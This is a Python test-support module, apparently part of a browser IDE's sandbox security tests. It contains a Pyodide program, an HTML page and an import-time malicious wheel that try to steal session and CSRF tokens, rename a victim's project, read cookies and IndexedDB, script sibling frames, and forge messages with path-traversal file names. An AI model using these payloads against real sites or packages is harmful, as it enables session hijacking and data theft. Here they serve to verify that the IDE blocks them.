"""The hostile code of tests/e2e/test_sandbox_exploit.py: a program, a page and a wheel that
try to act as the person who runs them. Each attempt records "blocked: ..." or "LEAKED: ...".

The program runs in the runtime worker (Python, and JavaScript through `js`); the page runs
in the preview; the wheel does the program's part at import time. They try the IDE's API
with the visitor's cookies (reading the session and its CSRF token, listing projects,
renaming the visitor's project), the IDE's cookies, IndexedDB and Cache Storage, the page
around them, and forged messages to the IDE.
"""

from __future__ import annotations

import io
import zipfile

# Python, in the runtime worker. {ide} and {victim} are filled in by the test (an attacker
# who knows the visitor's project id: the strongest case). Writes attack-<tag>.json.
PROGRAM = '''
import json
import js
from pyodide.ffi import to_js

IDE = "{ide}"
VICTIM = "{victim}"
TAG = "{tag}"
results = {{}}


def xhr(method, url, body=None, headers=None):
    """A synchronous request with the page's credentials (a worker may block)."""
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.withCredentials = True
    for name, value in (headers or {{}}).items():
        request.setRequestHeader(name, value)
    try:
        request.send(body)
    except Exception as error:
        return 0, type(error).__name__
    return int(request.status), str(request.responseText)[:300]


def attempt(name, action):
    try:
        results[name] = action()
    except Exception as error:
        results[name] = ("blocked: " + type(error).__name__ + ": " + str(error))[:200]


def session(base):
    status, text = xhr("GET", base + "/api/auth/session")
    if status == 200 and "csrf_token" in text:
        results["csrf"] = json.loads(text)["csrf_token"]
        return "LEAKED: " + text
    return "blocked: HTTP " + str(status)


def projects(base):
    status, text = xhr("GET", base + "/api/projects")
    if status == 200:
        return "LEAKED: " + text
    return "blocked: HTTP " + str(status)


def rename(base):
    headers = {{"content-type": "application/json", "x-csrf-token": results.get("csrf", "")}}
    status, text = xhr("PATCH", base + "/api/projects/" + VICTIM,
                       json.dumps({{"name": "pwned by " + TAG}}), headers)
    if 200 <= status < 300:
        return "LEAKED: " + text
    return "blocked: HTTP " + str(status)


attempt("session_here", lambda: session(""))
attempt("session_ide", lambda: session(IDE))
attempt("projects_here", lambda: projects(""))
attempt("projects_ide", lambda: projects(IDE))
attempt("rename_here", lambda: rename(""))
attempt("rename_ide", lambda: rename(IDE))
attempt("cookie", lambda: "LEAKED: " + str(js.document.cookie))
attempt("top", lambda: "LEAKED: " + str(js.top.location.href))
attempt("origin", lambda: "info: " + str(js.location.origin))


def forge():
    # Messages the IDE must refuse: wrong shapes, paths outside the project, a state that
    # does not exist. They go to the page that hosts this worker, which passes them on.
    js.postMessage("garbage")
    js.postMessage(to_js({{"op": "status", "state": "hacked", "reason": "forged"}},
                         dict_converter=js.Object.fromEntries))
    evil = to_js(b"escaped")
    batch = [["create", "../escaped-" + TAG + ".txt", evil], ["create", "/etc/escaped", evil],
             ["create", "a/../../escaped.txt", evil], ["explode", "x.txt", evil], ["create"]]
    js.postMessage(to_js({{"op": "events", "batch": batch}}, dict_converter=js.Object.fromEntries))
    js.postMessage(to_js({{"op": "reply", "id": 1, "ok": True, "value": "forged"}},
                         dict_converter=js.Object.fromEntries))
    return "sent"


attempt("forged_messages", forge)
with open("attack-" + TAG + ".json", "w") as handle:
    json.dump(results, handle, indent=1)


# IndexedDB and Cache Storage answer asynchronously: wait for them (JSPI, in Chromium).
from pyodide.ffi import run_sync

probe = js.Function.new("""
  return (async () => {{
    const idb = (await indexedDB.databases()).map((d) => d.name);
    const found = {{}};
    for (const name of await caches.keys()) {{
      found[name] = (await (await caches.open(name)).keys()).length;
    }}
    return JSON.stringify({{ idb, caches: found }});
  }})();
""")
try:
    storage = json.loads(str(run_sync(probe())))
except Exception as error:
    storage = {{"idb": [], "caches": {{}}, "error": str(error)}}
with open("attack-" + TAG + "-storage.json", "w") as handle:
    json.dump(storage, handle, indent=1)
print("ATTACK DONE " + TAG)
'''

# JavaScript, in the preview. Reports through console.log (the preview's console panel).
PAGE = """<!doctype html><meta charset=utf-8><title>attack</title><h1>Attack page</h1>
<script>
(async () => {{
  const IDE = "{ide}", VICTIM = "{victim}";
  const results = {{}};
  const attempt = async (name, action) => {{
    try {{ results[name] = await action(); }}
    catch (error) {{ results[name] = "blocked: " + error; }}
  }};
  const call = async (url, init) => {{
    const answer = await fetch(url, {{ credentials: "include", ...init }});
    const text = await answer.text();
    return answer.ok && /csrf_token|"projects"|"id"/.test(text)
      ? "LEAKED: " + text.slice(0, 200) : "blocked: HTTP " + answer.status;
  }};
  await attempt("session_here", () => call("/api/auth/session"));
  await attempt("session_ide", () => call(IDE + "/api/auth/session"));
  await attempt("rename_ide", () => call(IDE + "/api/projects/" + VICTIM, {{
    method: "PATCH", headers: {{ "content-type": "application/json" }},
    body: JSON.stringify({{ name: "pwned by page" }}) }}));
  await attempt("cookie", async () => document.cookie.includes("ide-probe")
    ? "LEAKED: " + document.cookie : "blocked: " + JSON.stringify(document.cookie));
  await attempt("idb", async () => {{
    const names = (await indexedDB.databases()).map((d) => d.name);
    return names.includes("cospai") ? "LEAKED: " + names : "blocked: " + JSON.stringify(names);
  }});
  await attempt("parent_dom", async () => "LEAKED: " + parent.document.title);
  // Forged messages to the IDE page, from this window and from the runtime's host page
  // (same origin as this page, so it can be scripted from here).
  for (const message of [
    {{ type: "cospai-runtime-hello", isolated: true }},
    {{ type: "cospai-preview-port", sid: "x".repeat(32) }},
    {{ cospaiPreview: "location", href: "javascript:alert(1)" }},
    {{ cospai: 1, type: "set-files", files: {{ "main.py": "print('replaced')" }} }},
    {{ cospai: 1, type: "run", path: "main.py" }},
  ]) parent.postMessage(message, "*");
  await attempt("runtime_frame", async () => {{
    for (let i = 0; i < parent.frames.length; i++) {{
      const frame = parent.frames[i];
      let path = "";
      try {{ path = frame.location.pathname; }} catch (error) {{ continue; }}
      if (path !== "/runtime.html") continue;
      frame.eval(`
        parent.postMessage({{ type: "cospai-runtime-hello", isolated: true }}, "*");
        idePort.postMessage({{ op: "events", batch: [["create", "../from-page.txt",
          new TextEncoder().encode("escaped")]] }});
        idePort.postMessage({{ op: "status", state: "nonsense" }});`);
      return "scripted the runtime host (same origin), forged its messages";
    }}
    return "no runtime host found";
  }});
  await attempt("top", async () => {{
    top.location.href = IDE + "/pwned-by-page";
    return "tried";
  }});
  console.log("ATTACK " + JSON.stringify(results));
}})();
</script>
"""

# A wheel whose import runs the program's attempts (tag "wheel").
WHEEL_NAME = "evilpkg-0.1-py3-none-any.whl"


def wheel(ide: str, victim: str) -> bytes:
    buffer = io.BytesIO()
    metadata = "Metadata-Version: 2.1\nName: evilpkg\nVersion: 0.1\n"
    files = {
        "evilpkg/__init__.py": PROGRAM.format(ide=ide, victim=victim, tag="wheel"),
        "evilpkg-0.1.dist-info/METADATA": metadata,
        "evilpkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\n"
        "Root-Is-Purelib: true\nTag: py3-none-any\n",
        "evilpkg-0.1.dist-info/RECORD": "",
    }
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()
